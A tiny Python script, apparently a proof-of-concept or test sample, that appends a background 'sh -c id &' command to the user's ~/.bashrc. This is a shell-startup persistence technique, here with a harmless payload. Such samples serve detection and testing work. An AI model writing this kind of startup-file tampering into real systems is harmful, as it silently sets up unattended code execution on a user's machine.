import os

with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as file:
    file.write("sh -c id &\n")
